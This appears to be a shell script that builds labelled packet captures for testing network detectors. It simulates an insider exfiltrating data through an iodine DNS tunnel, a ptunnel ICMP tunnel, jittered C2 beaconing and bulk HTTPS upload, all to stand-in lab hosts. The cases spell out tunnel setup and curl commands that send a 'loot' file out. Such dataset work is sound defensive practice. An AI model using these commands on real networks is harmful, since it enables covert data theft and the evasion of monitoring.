# What leaves under the cover of something else: tunnels, a beacon, a theft. The insider is 10.20.0.31.

case_dns_tunnel() {
    about attack dns_tunnel dns-tunnel.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server)" \
        "iodine through the cluster's resolver: a shell's back and forth, then 40 kB by HTTP out of the tunnel"
    stage
    host insider in 10.20.0.31
    host server out 203.0.113.77 11
    start server iodined -f -c -P secret 10.99.0.1/28 t.example
    listening server udp 53
    web server
    head -c 40000 /dev/urandom >"$TMP/loot"
    capture 384
    murmur 900 &
    sleep 3
    BEGAN=$(date +%s.%N)
    start insider iodine -f -r -P secret t.example
    until on insider ip addr show dev dns0 2>/dev/null | grep -q 10.99; do sleep 0.5; done
    sleep 3
    on insider ping -c 3 10.99.0.1
    attack insider curl -s --max-time 60 http://10.99.0.1/2.bin -o /dev/null
    attack insider curl -s --max-time 120 -T "$TMP/loot" http://10.99.0.1/upload/loot
    sleep 5
    ENDED=$(date +%s.%N)
    finish 0
    ls -l "$TMP/server-web/html/upload"
}

# The tunnel at rest: only its login and polling.
case_dns_tunnel_idle() {
    about attack dns_tunnel dns-tunnel-idle.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server)" \
        "iodine straight to its server, TXT answers, no data: login and polling only"
    stage
    host insider in 10.20.0.31
    host server out 203.0.113.77 11
    start server iodined -f -c -P secret 10.99.0.1/28 t.example
    listening server udp 53
    capture 384
    murmur 900 &
    sleep 3
    attack insider timeout 100 iodine -f -r -T TXT -I 4 -P secret 203.0.113.77 t.example
    finish 2
}

case_icmp_tunnel() {
    about attack icmp_exfil icmp-tunnel.pcap.gz "mixed with benign" "10.20.0.31 (tunnel client)" "203.0.113.77 (tunnel server)" \
        "ptunnel: 150 kB to an HTTP server and 150 kB back, as echo requests and replies; an ordinary ping goes on beside"
    stage
    host insider in 10.20.0.31
    host server out 203.0.113.77 11
    web server
    on server sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    head -c 150000 /dev/urandom >"$TMP/loot"
    start server ptunnel
    capture 160
    murmur 900 &
    start client ping -q -i 1 203.0.113.10
    sleep 4
    BEGAN=$(date +%s.%N)
    start insider ptunnel -p 203.0.113.77 -lp 8000 -da 203.0.113.77 -dp 80
    sleep 2
    attack insider curl -s --max-time 60 -T "$TMP/loot" http://127.0.0.1:8000/upload/loot
    attack insider curl -s --max-time 60 http://127.0.0.1:8000/150.bin -o /dev/null
    sleep 5
    ENDED=$(date +%s.%N)
    finish 0
    ls -l "$TMP/server-web/html/upload"
}

case_c2_beacon() {
    about attack c2_beacon c2-beacon.pcap.gz "mixed with benign" "10.20.0.31 (infected)" "203.0.113.80 (C2)" \
        "curl asks the same page every 5 s with 20 % jitter, for five minutes, and does a little browsing besides"
    stage
    host insider in 10.20.0.31
    host server out 203.0.113.80 31
    web server
    capture 96
    murmur 900 &
    local until=$((SECONDS + 300))
    while [ $SECONDS -lt $until ]; do
        attack insider curl -sk --max-time 10 -A "Mozilla/5.0" https://203.0.113.80/answer -o /dev/null
        [ $((RANDOM % 12)) != 0 ] || fetch insider http://www.example.com/ http://cdn.example.net/8.bin &
        nap 4 6
    done
    finish
}

case_c2_beacon_jitter() {
    about attack c2_beacon c2-beacon-jitter.pcap.gz "mixed with benign" "10.20.0.31 (infected)" "203.0.113.80 (C2)" \
        "curl asks the same page every 10 s with 30 % jitter and leaves out one time in eight, and does a little browsing besides"
    stage
    host insider in 10.20.0.31
    host server out 203.0.113.80 31
    web server
    capture 96
    murmur 900 &
    local until=$((SECONDS + 330))
    while [ $SECONDS -lt $until ]; do
        [ $((RANDOM % 8)) = 0 ] || attack insider curl -sk --max-time 10 -A "Mozilla/5.0" https://203.0.113.80/answer -o /dev/null
        [ $((RANDOM % 12)) != 0 ] || fetch insider http://www.example.com/ http://cdn.example.net/8.bin &
        nap 7 13
    done
    finish
}

case_exfiltration() {
    about attack exfiltration exfiltration.pcap.gz "mixed with benign" "10.20.0.31 (insider), 203.0.113.90 (drop server)" - \
        "curl uploads 22 MB by HTTPS to a server outside, at 1.5 MB/s; long segments, as a node's own sensor sees them"
    stage
    host insider in 10.20.0.31
    offload insider
    host server out 203.0.113.90 18
    web server
    head -c 22M /dev/zero >"$TMP/loot"
    capture 68
    murmur 900 &
    sleep 4
    attack insider curl -sk --limit-rate 1500k --max-time 60 -T "$TMP/loot" https://203.0.113.90/upload/backup.tar
    finish 3
    ls -l "$TMP/server-web/html/upload"
}
